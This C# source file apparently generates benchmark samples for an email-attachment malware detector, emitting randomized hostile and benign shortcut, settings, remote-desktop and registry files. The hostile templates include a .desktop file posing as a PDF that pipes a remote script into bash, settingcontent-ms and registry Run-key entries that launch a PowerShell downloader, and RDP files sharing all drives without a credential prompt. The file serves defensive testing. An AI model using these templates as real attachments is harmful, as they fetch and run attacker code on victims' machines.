using System.Net;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Documents;

/// <summary>Shortcuts and settings of Windows, Linux and macOS that are text, hostile and honest.</summary>
internal sealed class TextShortcuts : ISampleKind
{
    private static readonly AttackType[] Types = [AttackType.Behaviour, AttackType.MaliciousUrl];

    public string Name => "text-shortcut";

    public IEnumerable<Sample> Make(Random random)
    {
        var host = random.Host();
        yield return Hostile("url to a program outside", "url", $"[InternetShortcut]\r\nURL=file://{host}{random.Pick(["", "@80"])}/{random.Word()}/{random.Word()}.{random.Pick(["exe", "vbs", "lnk", "hta"])}\r\n", "shortcut-remote");
        yield return Hostile("url with an icon outside", "url", $"[InternetShortcut]\r\nURL={random.Address()}\r\nIconFile=\\\\{random.Host()}\\{random.Word()}\\{random.Word()}.ico\r\nIconIndex={random.Next(3)}\r\n", "shortcut-remote");
        yield return Hostile("search of a folder outside", "search-ms", $"<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query><scope><include path=\"\\\\{random.Host()}@SSL\\DavWWWRoot\\{random.Word()}\"/></scope></query></persistedQuery>", "shortcut-remote");
        yield return Hostile("library of a folder outside", "library-ms", $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{random.Pick([$"\\\\{random.Host()}\\{random.Word()}", $"http://{random.Host()}/{random.Word()}"])}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>", "shortcut-remote");
        yield return Hostile("settings that run a command", "settingcontent-ms", $"<?xml version=\"1.0\" encoding=\"UTF-8\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrolpanel</AppID><DeepLink>{WebUtility.HtmlEncode($"%windir%\\system32\\cmd.exe /c powershell {random.Downloader()}")}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>", "shortcut-command");
        yield return Hostile("remote desktop with drives", "rdp", $"full address:s:{random.Host()}{random.Pick(["", ":3389", ":443"])}\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nprompt for credentials:i:0\r\nremoteapplicationmode:i:{random.Next(2)}\r\nremoteapplicationname:s:{random.Word()}\r\n", "remote-desktop-shares");
        yield return Hostile("desktop entry", "desktop", $"[Desktop Entry]\nType=Application\nName={random.DocumentName()}.pdf\nIcon=application-pdf\nTerminal=false\nExec=sh -c \"curl -s {random.Address(".sh")} | bash\"\n", "shortcut-command");
        yield return Hostile("registry file with a start", "reg", $"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run{random.Pick(["", "Once"])}]\r\n\"{random.Word()}\"=\"powershell.exe {random.Downloader().Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal)}\"\r\n", "registry-autostart");

        yield return Benign("saved page", "url", $"[{{000214A0-0000-0000-C000-000000000046}}]\r\nProp3=19,11\r\n[InternetShortcut]\r\nIDList=\r\nURL=https://www.{random.Word()}.example/{random.Word()}\r\nIconFile=https://www.{random.Word()}.example/favicon.ico\r\nIconIndex=1\r\n");
        yield return Benign("folder of the company", "url", $"[InternetShortcut]\r\nURL=file://{random.Pick(["fileserver", "fs01", "10.0.3.7"])}/{random.Word()}/{random.Word()}\r\n");
        yield return Benign("remote desktop of the company", "rdp", $"full address:s:{random.Pick([$"ts{random.Next(1, 9)}.corp.local", $"10.{random.Next(256)}.{random.Next(256)}.{random.Next(1, 255)}", $"192.168.{random.Next(256)}.{random.Next(1, 255)}"])}\r\nredirectprinters:i:1\r\ndrivestoredirect:s:{random.Pick(["", "*"])}\r\nscreen mode id:i:2\r\n");
        yield return Benign("page saved on a Mac", "webloc", $"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\"><dict><key>URL</key><string>https://www.{random.Word()}.example/{random.Word()}</string></dict></plist>\n");

        Sample Hostile(string name, string extension, string text, params string[] reasons) =>
            Sample.Hostile(name, SampleMail.With(random, SampleFile.Text($"{random.DocumentName()}.{extension}", text, "application/octet-stream")), Types, reasons);

        Sample Benign(string name, string extension, string text) => Sample.Benign(name, SampleMail.With(random, SampleFile.Text($"{random.DocumentName()}.{extension}", text, "application/octet-stream")));
    }
}
